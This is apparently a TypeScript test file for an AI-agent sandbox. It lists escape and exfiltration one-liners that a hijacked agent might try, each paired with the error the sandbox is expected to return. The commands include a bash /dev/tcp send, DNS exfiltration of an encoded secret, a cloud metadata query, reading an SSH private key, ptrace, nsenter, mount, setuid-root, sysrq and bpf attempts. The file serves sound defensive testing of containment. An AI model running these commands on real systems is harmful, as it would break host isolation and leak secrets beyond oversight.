/** What a hijacked agent would try, as the one-liners it would write, and what each must come to. */

import { target } from "../support/target.ts";

/** What the host offers as prey; none of it may be reached. */
export interface Prey {
  /** Listener on the host's loopback and, where it has one, another address. */
  readonly port: number;
  readonly address: string;
  /** Abstract unix socket, without its leading zero. */
  readonly abstract: string;
  readonly hostPid: number;
  readonly hostHome: string;
  /** The supervisor's run directory of this bottle. */
  readonly record: string;
}

export interface Attack {
  readonly name: string;
  readonly argv: readonly string[];
  /** What the attack prints, standard output and error together, where the boundary holds. */
  readonly held: RegExp;
  /** What gVisor's kernel answers instead, where it does. */
  readonly gvisor?: RegExp;
}

/** Asked when an attack is made: a file's target is known only then. */
function onNetwork(): boolean {
  return target().link !== undefined;
}

function byLink(held: Readonly<Record<"socket" | "network" | "loopback", RegExp>>): RegExp {
  const { link } = target();
  return link === "network" || link === "loopback" ? held[link] : held.socket;
}

const sh = (script: string): readonly string[] => ["sh", "-c", script];
const python = (script: string): readonly string[] => ["/usr/bin/python3", "-c", script];
const node = (script: string): readonly string[] => ["/opt/claude-bottle/node", "-e", script];

/** Tries one thing in Python and prints the errno name, or `done`. */
function pythonTry(statement: string, imports = ""): readonly string[] {
  return python(`
import ctypes, errno, os, socket, sys${imports}
libc = ctypes.CDLL(None, use_errno=True)
def call(*a):
    if libc.syscall(*[x if isinstance(x, bytes) else ctypes.c_long(x) for x in a]) == -1:
        raise OSError(ctypes.get_errno(), "")
try:
    ${statement}
    print("done")
except socket.gaierror as e: print("no name")
except OSError as e: print(errno.errorcode[e.errno])
`);
}

/** The ways out over a network. */
export function networkAttacks(prey: Prey): readonly Attack[] {
  const { port, address, abstract } = prey;
  return [
    {
      name: "connects to the host's loopback",
      argv: pythonTry(`socket.create_connection(("127.0.0.1", ${port}), 3)`),
      held: /^ECONNREFUSED\n$/,
    },
    {
      name: "connects to an address of the host",
      argv: pythonTry(`socket.create_connection(("${address}", ${port}), 3)`),
      held: byLink({
        network: /^(EHOSTUNREACH|ENETUNREACH)\n$/,
        loopback: /^ECONNREFUSED\n$/,
        socket: /^ENETUNREACH\n$/,
      }),
    },
    {
      name: "opens a TCP connection with bash alone",
      argv: ["bash", "-c", `echo stolen > /dev/tcp/${address}/${port}`],
      held: byLink({
        network: /(No route to host|Network is unreachable)/,
        loopback: /Connection refused/,
        socket: /Network is unreachable/,
      }),
    },
    {
      name: "sends a datagram to an address of the host",
      argv: pythonTry(
        `socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"stolen", ("${address}", ${port}))`,
      ),
      // On a network nobody is the next hop, and a datagram hears of that no more (on-link.ts looks at what arrives).
      held: byLink({
        network: /^(done|ENETUNREACH)\n$/,
        loopback: /^EPERM\n$/,
        socket: /^ENETUNREACH\n$/,
      }),
    },
    {
      name: "goes around the proxy with curl",
      argv: ["curl", "-sS", "--noproxy", "*", "-m", "5", `http://${address}:${port}/`],
      held: /curl: \(7\)/,
    },
    {
      name: "reaches an abstract socket of the host with Node",
      argv: node(
        `require("net").connect({path: "\\0${abstract}"}).on("connect", () => console.log("done")).on("error", (e) => console.log(e.code))`,
      ),
      held: /^ECONNREFUSED\n$/,
    },
    {
      name: "carries a secret out in a name to resolve",
      argv: pythonTry(`socket.getaddrinfo("c3RvbGVu.leak.claude-bottle.invalid", 443)`),
      held: /^no name\n$/,
    },
    {
      name: "asks the metadata service through the gateway",
      argv: sh(
        "curl -sS -m 5 -i -x http://127.0.0.1:4180 http://169.254.169.254/latest/meta-data/",
      ),
      held: /^HTTP\/1\.1 403 [\s\S]*x-claude-bottle: /i,
    },
    {
      name: "asks the gateway for an address of the host",
      argv: sh(`curl -sS -m 5 -i -x http://127.0.0.1:4180 http://${address}:${port}/`),
      held: /^HTTP\/1\.1 403 [\s\S]*x-claude-bottle: /i,
    },
    {
      name: "asks the gateway for a tunnel to the host's loopback",
      argv: sh(`curl -sS -m 5 --noproxy '' -p -x http://127.0.0.1:4180 http://127.0.0.1:${port}/`),
      held: /CONNECT tunnel failed, response 403|HTTP code 403/,
    },
    {
      name: "asks the gateway for a host that the manifest does not name",
      argv: sh("curl -sS -m 5 -x http://127.0.0.1:4180 https://elsewhere.claude-bottle.invalid/"),
      held: /CONNECT tunnel failed, response 403|HTTP code 403/,
    },
    {
      name: "speaks to a virtual machine's host over vsock",
      argv: pythonTry("socket.socket(40, socket.SOCK_STREAM)"),
      held: /^(EAFNOSUPPORT|EPERM)\n$/,
    },
    {
      name: "makes a raw socket",
      argv: pythonTry("socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)"),
      held: /^EPERM\n$/,
    },
    {
      name: "makes a network interface",
      argv: sh("ip link add veth0 type veth peer name veth1 || echo refused"),
      held: /refused/,
    },
  ];
}

/** The ways out over files, processes and the kernel. */
export function hostAttacks(prey: Prey): readonly Attack[] {
  const { hostPid, hostHome, record } = prey;
  return [
    {
      name: "reads the owner's home",
      argv: sh(`ls ${hostHome}/.claude ${hostHome}; cat ${hostHome}/.ssh/id_ed25519`),
      held: /^(ls|cat): .*No such file or directory\n(.*No such file or directory\n)*$/,
    },
    {
      name: "looks for a way to the host through the first process",
      argv: sh(`ls /proc/1/root${hostHome} /proc/1/cwd${hostHome} /proc/self/root${hostHome}`),
      held: /^(ls: .*(No such file|Permission denied).*\n){3}$/,
    },
    {
      name: "reads the bottle's record and the audit log's key",
      argv: sh(`ls ${record}`),
      held: /No such file or directory/,
    },
    {
      name: "finds a socket other than the gateway's",
      argv: sh("find / -xdev -type s 2>/dev/null; find /run /tmp /var /home -type s 2>/dev/null"),
      held: onNetwork() ? /^$/ : /^(\/run\/claude-bottle\/gateway\.sock\n)+$/,
    },
    {
      name: "puts a socket of its own in the gateway's place",
      argv: sh(
        "mv /run/claude-bottle/gateway.sock /run/claude-bottle/old; rm -f /run/claude-bottle/gateway.sock; ls /run/claude-bottle/gateway.sock",
      ),
      held: onNetwork()
        ? /^mv: cannot stat .*\n(rm: .*\n)?ls: cannot access .*\n$/
        : /^\/run\/claude-bottle\/gateway\.sock\nmv: .*Read-only file system\nrm: .*Read-only file system\n$/,
    },
    {
      name: "changes the programs it runs under",
      argv: sh(
        "for f in /opt/claude-bottle/helper.js /opt/claude-bottle/node /usr/bin/env /etc/passwd /etc/ld.so.preload /etc/hosts; do echo x 2>/dev/null >>$f && echo changed $f; done; echo end",
      ),
      held: /^(sh: .*\n)*end\n$/,
    },
    {
      name: "kills a process of the host",
      argv: pythonTry(`os.kill(${hostPid}, 9)`),
      held: /^ESRCH\n$/,
    },
    {
      name: "sees a process of the host",
      argv: sh(`ls -d /proc/${hostPid}`),
      held: /No such file or directory/,
    },
    {
      name: "traces a process of the host",
      argv: pythonTry(
        `call(101 if os.uname().machine == "x86_64" else 117, 0x4206, ${hostPid}, 0, 0)`,
      ),
      held: /^ESRCH\n$/,
      gvisor: /^EPERM\n$/,
    },
    {
      name: "makes a user namespace",
      argv: sh("unshare -Ur id -u"),
      held: /Operation not permitted|No space left/,
    },
    {
      name: "enters the namespaces of the first process",
      argv: sh("nsenter -t 1 -U -m -n true"),
      held: /nsenter: .*(not permitted|denied)/i,
    },
    {
      name: "mounts something",
      argv: sh("mount -t tmpfs none /tmp; mount --bind / /tmp; mount -o remount,rw /"),
      held: /^(mount: .*\n(\s.*\n)*){3}$/,
    },
    {
      name: "changes its root",
      argv: pythonTry('os.chroot("/tmp")'),
      held: /^EPERM\n$/,
    },
    {
      name: "becomes root with a set-user-id program",
      argv: sh(
        "cp /bin/sh /tmp/sh; chmod 6755 /tmp/sh; /tmp/sh -p -c 'id -u'; su root -c 'id -u' </dev/null 2>&1 | grep -x 0; rm -f /tmp/sh",
      ),
      held: /^[1-9]\d*\n$/,
    },
    {
      name: "has the kernel run a program as root after a crash",
      argv: sh(": >> /proc/sys/kernel/core_pattern"),
      held: /Permission denied|Read-only file system/,
    },
    {
      name: "reboots the host by the magic key",
      argv: sh("echo h > /proc/sysrq-trigger"),
      held: /Permission denied|Read-only file system|nonexistent/,
    },
    {
      name: "makes a device node",
      argv: sh("mknod /tmp/disk b 8 0; mknod /tmp/mem c 1 1; ls /tmp/disk /tmp/mem"),
      held: /^(mknod: .*not permitted\n){2}(ls: .*\n){2}$/,
    },
    {
      name: "finds the host's devices",
      argv: sh("ls /dev/kmsg /dev/mem /dev/kvm /dev/vsock /dev/fuse /dev/net/tun /sys/kernel"),
      held: /^(ls: .*No such file or directory\n){7}$/,
      // Two devices of its own, which take capabilities, and an empty folder.
      gvisor:
        /^\/dev\/fuse\n\/dev\/net\/tun\n\n\/sys\/kernel:\n(ls: .*No such file or directory\n){4}$/,
    },
    {
      name: "loads a program into the kernel",
      argv: pythonTry('call(321 if os.uname().machine == "x86_64" else 280, 0, bytes(64), 64)'),
      held: /^EPERM\n$/,
    },
  ];
}
